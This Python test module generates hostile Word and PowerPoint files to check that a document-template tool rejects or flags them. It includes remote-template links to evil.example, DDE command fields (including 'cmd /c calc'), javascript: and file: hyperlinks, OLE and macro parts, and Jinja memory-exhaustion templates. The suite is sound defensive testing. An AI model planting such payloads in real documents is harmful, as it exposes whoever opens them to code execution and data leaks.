"""What hides behind names, lists, stories and blocks: read one way by us, another way by Office."""

from __future__ import annotations

from collections.abc import Iterator

from tests.fuzz.bases import slim
from tests.support.hostile.case import Case
from tests.support.hostile.zips import (
    RELS,
    in_body,
    parts_of,
    plain_docx,
    raw_with,
    replaced,
    with_blob,
    with_relationship,
)
from tests.support.packages import docx_bytes, pptx_bytes

_R = f'xmlns:r="{RELS}"'
_V = 'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"'
_EVIL = "evil.example"
_MS = "http://schemas.microsoft.com/office/2006/relationships/"
_MAIN = "word/document.xml"
_MAIN_RELS = "word/_rels/document.xml.rels"
_SLIDE = "ppt/slides/slide1.xml"
_BEGIN, _SEPARATE, _END = (
    f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "separate", "end")
)
_REMOTE = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    f'<Relationship Id="rId9" Type="{RELS}/attachedTemplate" Target="http://{_EVIL}/t.dotm" '
    'TargetMode="External"/></Relationships>'
).encode()


def cases() -> Iterator[Case]:
    yield from _names()
    yield from _lists()
    yield from _links()
    yield from _fields()
    yield from _parts()
    yield from _embedded()
    yield from _drawings()
    yield from _slides()
    yield from _blocks()


def _names() -> Iterator[Case]:
    for number, name in enumerate((
        "word/_rels/settings.xml.RELS", "word/_RELS/settings.xml.rels",
        "word/_rels/settings.xml.%72els", "word/./_rels/settings.xml.rels",
        "word/_rels/SETTINGS.xml.rels", "word//x.xml", "word/x.xml.", "word/x.xml ",
        "word/x.xml/[0].piece", "word/x.xml/[1].last.piece", "word/%2e%2e/x.xml", "WORD/styles.xml",
        "word/s%74yles.xml",
    )):  # fmt: skip
        yield Case(f"smuggled-name-{number}", "2", with_blob(plain_docx(), name, _REMOTE))
    for name, flags in (("strong", 0x840), ("masked", 0x2800)):
        made = raw_with(("word/media/x.png", b"abc", {"flags": flags}))
        yield Case(f"smuggled-flag-{name}", "2", made, says="encrypted")
    data = plain_docx()
    at = data.index(b"word/settings.xml")
    yield Case("smuggled-local-name", "3", data[:at] + b"word/settingz.xml" + data[at + 17 :])


def _lists() -> Iterator[Case]:
    types = "[Content_Types].xml"
    macro = "application/vnd.ms-word.document.macroEnabled.main+xml"
    more = f'<Override PartName="/{{}}" ContentType="{macro}"/></Types>'
    for name in (_MAIN, "WORD/document.xml"):
        yield Case(f"smuggled-type-{name[:4]}", "5",
                   replaced(plain_docx(), types, "</Types>", more.format(name)), says="types")  # fmt: skip
    yield Case("smuggled-types-base", "5",
               replaced(plain_docx(), types, "<Types", f'<Types xml:base="http://{_EVIL}/"'))  # fmt: skip
    rel = _REMOTE.decode().partition("<Relationship ")[2].partition("/>")[0]
    outside = f"<Relationship {rel}/>"
    for name, old, new in (
        ("twice", "</Relationships>", outside.replace("rId9", "rId3") + "</Relationships>"),
        ("nested", "</Relationships>", f"<x>{outside}</x></Relationships>"),
        ("inside", "</Relationships>",
         f'<Relationship Id="rId98" Type="{RELS}/theme" Target="theme/theme1.xml">{outside}'
         "</Relationship></Relationships>"),
        ("other", "</Relationships>",
         outside.replace("<Relationship", '<q:Relationship xmlns:q="urn:q"') + "</Relationships>"),
        ("base", "<Relationships ", f'<Relationships xml:base="http://{_EVIL}/" '),
    ):  # fmt: skip
        yield Case(f"smuggled-relationship-{name}", "5",
                   replaced(plain_docx(), _MAIN_RELS, old, new))  # fmt: skip
    strict = '<w:hdr xmlns:w="http://purl.oclc.org/ooxml/wordprocessingml/main"/>'
    yield Case("smuggled-strict-header", "6", _part(
        "word/header9.xml", _word("header"), strict.encode(), "header"), says="Strict")  # fmt: skip
    yield Case("smuggled-untyped", "5", with_blob(plain_docx(), "word/evil.exe", b"MZ\x90"),
               fails=False, says="no content type", absent=("MZ\x90",))  # fmt: skip


_LINK = f'<w:p><w:hyperlink {_R} r:id="rIdEvil"><w:r><w:t>go</w:t></w:r></w:hyperlink></w:p>'
_FETCHED = "would have been fetched"


def _links() -> Iterator[Case]:
    uses = {
        "vml": f'<w:p><w:r><w:pict><v:shape {_V} style="width:9pt;height:9pt">'
        f'<v:imagedata {_R} r:id="rIdEvil"/></v:shape></w:pict></w:r></w:p>',
        "chunk": f'<w:altChunk {_R} r:id="rIdEvil"/>',
    }
    for name, xml in uses.items():
        made = with_relationship(in_body(xml), _MAIN, "hyperlink", f"http://{_EVIL}/a.png")
        yield Case(f"smuggled-link-as-{name}", "9", made, fails=False, says=_FETCHED)
    made = replaced(plain_docx(), "word/settings.xml", "<w:zoom",
                    f'<w:attachedTemplate {_R} r:id="rIdEvil"/><w:zoom')  # fmt: skip
    made = with_relationship(made, "word/settings.xml", "hyperlink", f"http://{_EVIL}/a.dotm")
    yield Case("smuggled-link-as-template", "9", made, fails=False, says=_FETCHED)
    for name, target, fails in (
        ("if", "{% if x %}javascript:alert(1){% endif %}", False),
        ("comment", "{# a #}javascript:alert(1)", False),
        ("set", "{% set a=1 %}file:///c:/x", False),
        ("empty", "{{ '' }}javascript:alert(1)", True),
        ("none", "{{ none }}file:///c:/x", True),
        ("second", "{{ '' }}{{ 'javascript:alert(1)' }}", True),
        ("loop", "{% for c in 'javascript:x' %}{{ c }}{% endfor %}", True),
    ):
        text = target.replace("'", "&apos;")
        says = "address" if fails else "dropped|last text"
        made = with_relationship(in_body(_LINK), _MAIN, "hyperlink", text)
        yield Case(f"smuggled-target-{name}", "12", made, fails, says, ("javascript:",))
        for sign in ('"', ""):
            made = in_body(_field(f" HYPERLINK {sign}{target}{sign} "))
            yield Case(f"smuggled-field-target-{name}{len(sign)}", "12", made, fails, says,
                       ("javascript:",))  # fmt: skip
    made = in_body(_field(' HYPERLINK \\o "tip" "file:///c:/x" '))
    yield Case("smuggled-target-behind-switch", "12", made, False, "last text", ("file:",))


def _fields() -> Iterator[Case]:
    for number, code in enumerate((
        '"DDEAUTO" x', "D{{ 'DE' }} x", "D{# a #}DE x", "{#x#}DDE x", "D{% if x %}DE{% endif %} x",
        "DDE\u200b x", "CONTROL Forms.HTML x", "DATA x", "SHELL x", "\u00a0DDE x",
    )):  # fmt: skip
        yield Case(f"smuggled-code-{number}", "10", in_body(_field(code)), False, "last text",
                   shows="last")  # fmt: skip
        simple = code.replace("'", "&apos;").replace('"', "&quot;")
        made = in_body(f'<w:p><w:fldSimple w:instr="{simple}"><w:r><w:t>last</w:t></w:r>'
                       "</w:fldSimple></w:p>")  # fmt: skip
        yield Case(f"smuggled-simple-code-{number}", "10", made, False, "last text", shows="last")
    box = (f'<w:r><w:pict><v:shape {_V} style="width:9pt;height:9pt"><v:textbox><w:txbxContent>'
           "<w:p>{}</w:p></w:txbxContent></v:textbox></v:shape></w:pict></w:r>")  # fmt: skip
    dde = _code("DDE cmd x")
    choice = ('<mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/'
              'markup-compatibility/2006"><mc:Choice Requires="zz" xmlns:zz="urn:zz">{}'
              "</mc:Choice><mc:Fallback>{}</mc:Fallback></mc:AlternateContent>")  # fmt: skip
    for name, runs in {
        "box-separates": _BEGIN + box.format(_SEPARATE) + dde + _SEPARATE + _END,
        "box-ends": _BEGIN + _code("PAGE ") + box.format(_END) + _END
        + f"</w:p><w:p>{_BEGIN}{box.format(_END)}{dde}{_SEPARATE}{_END}",
        "behind-separator": _BEGIN + _SEPARATE + dde + _SEPARATE + _END,
        "without-begin": dde + _END,
        "alternatives": _BEGIN + choice.format(_code("PAGE "), dde) + _SEPARATE + _END,
        "text-in-code": _BEGIN + "<w:r><w:t>{% if 0 %}</w:t></w:r>" + _code("PAGE ")
        + "<w:r><w:t>{% endif %}</w:t></w:r>" + dde + _SEPARATE + _END,
    }.items():  # fmt: skip
        yield Case(f"smuggled-story-{name}", "10", in_body(f"<w:p>{runs}</w:p>"), False,
                   "last text|no field", ("DDE cmd",))  # fmt: skip
    macro = "<w:entryMacro w:val='Evil'/><w:exitMacro w:val='Evil'/>"
    made = in_body(_field(" FORMTEXT ").replace(
        '"begin"/>', f'"begin"><w:ffData><w:name w:val="a"/>{macro}<w:textInput/></w:ffData>'
        "</w:fldChar>", 1))  # fmt: skip
    yield Case("smuggled-form-macro", "10", made, False, "macro of a form field", ("Evil",))


def _parts() -> Iterator[Case]:
    ui = b'<customUI xmlns="http://schemas.microsoft.com/office/2006/01/customui" onLoad="Evil"/>'
    control = (
        b'<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" ax:classid="{8856F961'
        b'-340A-11D0-A96B-00C04FD705A2}" ax:persistence="persistPropertyBag"/>'
    )
    keys = b'<wne:tcg xmlns:wne="http://schemas.microsoft.com/office/word/2006/wordml"/>'
    for name, path, kind, blob, relation, says in (
        ("toolbar", "customUI/ui.xml", "application/xml", ui, _MS + "ui/extensibility", "toolbars"),
        ("user-toolbar", "userCustomization/ui.xml", "application/xml", ui,
         _MS + "ui/userCustomization", "toolbars"),
        ("attached-toolbar", "word/attachedToolbars.bin", "application/vnd.ms-word.attachedToolbars",
         b"x", _MS + "attachedToolbars", "toolbars"),
        ("keys", "word/customizations.xml", "application/vnd.ms-word.keyMapCustomizations+xml",
         keys, _MS + "keyMapCustomizations", "keys of macros"),
        ("control", "word/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml", control,
         "control", "control"),
        ("macro-under-other-name", "word/zzz.bin", "application/VND.ms-office.vbaproject", b"x",
         _MS + "stylesWithEffects2", "macros"),
        ("signature", "_xmlsignatures/origin.sigs",
         "application/vnd.openxmlformats-package.digital-signature-origin", b"",
         "http://schemas.openxmlformats.org/package/2006/relationships/digital-signature/origin",
         "signature"),
    ):  # fmt: skip
        yield Case(f"smuggled-part-{name}", "9", _part(path, kind, blob, relation), False, says,
                   ("onLoad", "classid"))  # fmt: skip
    for ending, kind in (("html", "text/html"), ("mht", "message/rfc822"),
                         ("rtf", "application/rtf"), ("docx", _word("document.main"))):  # fmt: skip
        made = _part(f"word/chunk.{ending}", kind, f"<img src='http://{_EVIL}/a'>".encode(),
                     "aFChunk", f'<w:altChunk {_R} r:id="rIdEvil"/>')  # fmt: skip
        yield Case(f"smuggled-chunk-{ending}", "9", made, False, "piece of another file", (_EVIL,))
    for name, text in (("sheet", f'<?xml-stylesheet href="http://{_EVIL}/x.xsl"?>'),
                       ("mark", "<?jt 0?>")):  # fmt: skip
        blob = parts_of(plain_docx())[_MAIN].replace(b"?>", b"?>" + text.encode(), 1)
        made = with_blob(plain_docx(), _MAIN, blob)
        yield Case(f"smuggled-instruction-{name}", "6", made, False, "instruction", (_EVIL,))
    made = in_body("<w:p><w:r><w:t>a\ufdd0 1\ufdd1<?jt 0?>b&#xFDD2;</w:t></w:r></w:p>")
    yield Case("smuggled-marks", "6", made, False, "instruction|characters")


def _embedded() -> Iterator[Case]:
    shape = (f'<w:p><w:r><w:object><v:shape {_V} id="o1" style="width:9pt;height:9pt"/>'
             f'<o:OLEObject {_V} Type="Embed" ProgID="Package" ShapeID="o1" DrawAspect="Icon" '
             f'ObjectID="_1" {_R} r:id="rIdEvil"/></w:object></w:r></w:p>')  # fmt: skip
    ole = "application/vnd.openxmlformats-officedocument.oleObject"
    book = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    head = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500)
    link = (
        b'<externalLink xmlns="urn:x"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
    )
    for name, kind, blob, says in (
        ("package", ole, head + "\x01Ole10Native".encode("utf-16-le"), "start any program"),
        ("equation", ole, head + bytes.fromhex("02CE020000000000C000000000000046"),
         "start any program"),
        ("program", "application/octet-stream", b"MZ\x90evil", "it is a program"),
        ("macros", book, with_blob(plain_docx(), "xl/vbaProject.bin", b"x"), "vbaProject"),
        ("dde", book, with_blob(plain_docx(), "xl/externalLinks/a.xml", link), "running program"),
        ("connections", book, with_blob(plain_docx(), "xl/connections.xml", b"<a/>"), "connections"),
        ("entities", book, with_blob(plain_docx(), "xl/a.xml", b"<!DOCTYPE a><a/>"),
         "document type"),
        ("outside", book, with_relationship(plain_docx(), _MAIN, "image", f"http://{_EVIL}/a"),
         "were cut"),
    ):  # fmt: skip
        made = _part("word/embeddings/e.bin", kind, blob, "package", shape)
        yield Case(f"smuggled-embedded-{name}", "6", made, False, says, (_EVIL,))


def _drawings() -> Iterator[Case]:
    shape = f'<w:p><w:r><w:pict><v:shape {_V} style="width:9pt;height:9pt"{{}}>{{}}</v:shape></w:pict></w:r></w:p>'
    for number, inner in enumerate((
        f'<v:imagedata src="http://{_EVIL}/a.png"/>', f'<v:fill src="http://{_EVIL}/a.png"/>',
        f'<v:fill o:althref="http://{_EVIL}/a.png"/>',
        f'<v:imagedata o:href="http://{_EVIL}/a.png"/>', f'<v:stroke src="\\\\{_EVIL}\\x"/>',
    )):  # fmt: skip
        made = in_body(shape.format("", inner))
        yield Case(f"smuggled-vml-{number}", "9", made, False, "linked picture", (_EVIL,))
    for target in ("javascript", "file"):
        made = in_body(shape.format(f' href="{target}:{_EVIL}"', ""))
        yield Case(f"smuggled-vml-href-{target}", "9", made, False, "file or program", (_EVIL,))


def _slides() -> Iterator[Case]:
    deck = pptx_bytes(["Title {{ x }}", "text"], edit=slim)
    title = '<p:cNvPr id="2" name="Title 1"/>'
    for number, action in enumerate(("ppaction%3A//program", "ppaction:program", "evil://x",
                                     "ppaction://unknown")):  # fmt: skip
        made = replaced(deck, _SLIDE, title, title.replace(
            "/>", f'><a:hlinkHover {_R} r:id="" action="{action}"/></p:cNvPr>'))  # fmt: skip
        yield Case(f"smuggled-action-{number}", "11", made, False, "program or macro", (action,),
                   ending="pptx")  # fmt: skip
    timing = (
        '<p:timing><p:tnLst><p:par><p:cTn id="1" dur="indefinite" nodeType="tmRoot"><p:childTnLst>'
        '<p:cmd type="{}" cmd="0"><p:cBhvr><p:cTn id="2" dur="1"/><p:tgtEl><p:spTgt spid="2"/>'
        "</p:tgtEl></p:cBhvr></p:cmd></p:childTnLst></p:cTn></p:par></p:tnLst></p:timing></p:sld>"
    )
    made = replaced(deck, _SLIDE, "</p:sld>", timing.format("verb"))
    yield Case("smuggled-verb", "11", made, False, "starts an object", ("p:cmd",), ending="pptx")
    made = replaced(deck, _SLIDE, "</p:sld>", timing.format("call"))
    yield Case("smuggled-verb-none", "11", made, False, ending="pptx")


def _blocks() -> Iterator[Case]:
    twice = "{% set ns=namespace(a=1,b=1) %}{% for i in range(100) %}{% set ns.a=[ns.a,ns.a] %}{% set ns.b=[ns.b,ns.b] %}{% endfor %}"
    for number, use in enumerate(("{{ ns.a|string|length }}", "{{ ns.a|tojson|length }}",
                                  "{{ ns.a == ns.b }}", "{{ [ns.a, ns.b]|sort|length }}")):  # fmt: skip
        made = docx_bytes(twice + use)
        yield Case(f"smuggled-doubling-{number}", "16", made, says="value_items")
    arguments = "{% macro m(a, n) %}{% if n %}{{ m([a, a], n - 1) }}{% else %}{{ a|string|length }}{% endif %}{% endmacro %}{{ m(1, 40) }}"
    yield Case("smuggled-doubling-arguments", "16", docx_bytes(arguments), says="value_items")
    for number, text in enumerate((
        "{{ '{0:{1}}'.format('a', '999999999') }}", "{{ '\\t'.expandtabs(tabsize=10**9) }}",
        "{{ (5).to_bytes(length=10**9, byteorder='big')|length }}",
    )):  # fmt: skip
        yield Case(f"smuggled-width-{number}", "16", docx_bytes(text), says="value_characters")
    for number, kept in enumerate(("s.encode('utf-32')", "s|upper", "s[1:]", "s ~ i", "s|list")):
        text = f"{{% set s='a'*999999 %}}{{% set ns=namespace(l=[]) %}}{{% for i in range(2000) %}}{{% set ns.l=[ns.l, {kept}] %}}{{% endfor %}}"
        yield Case(f"smuggled-hoard-{number}", "16", docx_bytes(text), says="made_chara|value_item")


def _code(text: str) -> str:
    return f'<w:r><w:instrText xml:space="preserve">{text}</w:instrText></w:r>'


def _field(code: str) -> str:
    shown = "<w:r><w:t>last</w:t></w:r>"
    return f"<w:p>{_BEGIN}{_code(code)}{_SEPARATE}{shown}{_END}</w:p>"


def _word(kind: str) -> str:
    return f"application/vnd.openxmlformats-officedocument.wordprocessingml.{kind}+xml"


def _part(path: str, content_type: str, blob: bytes, relation: str, body: str = "") -> bytes:
    """Return the plain document with one more part that its main part points at."""
    made = with_blob(in_body(body) if body else plain_docx(), path, blob)
    listed = f'<Override PartName="/{path}" ContentType="{content_type}"/></Types>'
    made = replaced(made, "[Content_Types].xml", "</Types>", listed)
    return with_relationship(made, _MAIN, relation, f"/{path}", mode="")
